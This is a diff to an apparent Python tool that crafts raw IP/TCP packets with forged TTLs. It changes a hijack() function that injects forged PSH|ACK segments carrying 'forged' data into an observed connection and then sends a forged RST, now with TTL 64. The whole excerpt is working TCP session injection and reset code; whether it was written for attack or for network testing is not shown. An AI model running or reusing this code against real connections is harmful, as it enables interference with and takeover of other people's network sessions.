@@ -45,13 +45,13 @@ def ip_header(src, dst, length, ttl=FORGED, ident=0, frag=0):
     return h[:10] + checksum(h) + h[12:]
 
 
-def segment(src, dst, sport, dport, seq, ack, flags, payload=b'', options=b''):
+def segment(src, dst, sport, dport, seq, ack, flags, payload=b'', options=b'', ttl=FORGED):
     """A whole packet."""
     options += b'\1' * (-len(options) % 4)
     t = struct.pack('!HHIIBBHHH', sport, dport, seq & 0xffffffff, ack & 0xffffffff,
                     (20 + len(options)) // 4 << 4, flags, 502, 0, 0) + options + payload
     sum_ = checksum(src + dst + struct.pack('!II', len(t), 6) + t)
-    return ip_header(src, dst, len(t)) + t[:16] + sum_ + t[18:]
+    return ip_header(src, dst, len(t), ttl) + t[:16] + sum_ + t[18:]
 
 
 class Out:
@@ -248,7 +248,8 @@ def hijack(src, dst, port, requests):
             out.send(segment(a, b, sport, port, seen.nxt + (1 << 28) + random.randrange(1 << 24), seen.ack,
                              PSH | ACK, b'forged'))
     seen.look()
-    out.send(segment(a, b, sport, port, seen.nxt, seen.ack, RST))
+    # the client's own may not follow: production can have reset it by then, for what is forged and comes late
+    out.send(segment(a, b, sport, port, seen.nxt, seen.ack, RST, ttl=64))
     c.settimeout(20)
     c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
     print(f'port {sport}: {requests} requests were answered', flush=True)
